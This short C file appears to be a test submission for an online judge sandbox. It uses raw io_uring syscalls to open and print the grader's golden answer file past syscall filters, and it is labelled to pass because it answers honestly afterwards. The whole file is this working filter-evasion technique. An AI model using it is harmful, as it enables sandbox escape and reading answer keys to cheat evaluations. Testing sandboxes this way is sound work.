// Tries: to open the golden file by a submission ring, which no filter of system calls sees.
// Must get: AC, for it answers honestly afterwards.
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static void open_by_ring(void) {
    struct io_uring_params how;
    memset(&how, 0, sizeof how);
    int ring = syscall(SYS_io_uring_setup, 1, &how);
    if (ring < 0) return;
    char *area = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entry = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (area == MAP_FAILED || (void *)entry == MAP_FAILED) return;
    memset(entry, 0, sizeof *entry);
    entry->opcode = IORING_OP_OPENAT;
    entry->fd = AT_FDCWD;
    entry->addr = (unsigned long)"@GOLDEN@";
    ((unsigned *)(area + how.sq_off.array))[0] = 0;
    *(volatile unsigned *)(area + how.sq_off.tail) += 1;
    syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    struct io_uring_cqe *done = (struct io_uring_cqe *)(area + how.cq_off.cqes);
    char text[256];
    int number = done->res, length = number > 0 ? read(number, text, sizeof text) : 0;
    printf("PWNED a ring; it says %d\n%.*s\n", number, length, text);
}

int main(void) {
    open_by_ring();
    /* @ANSWER@ */
    return 0;
}
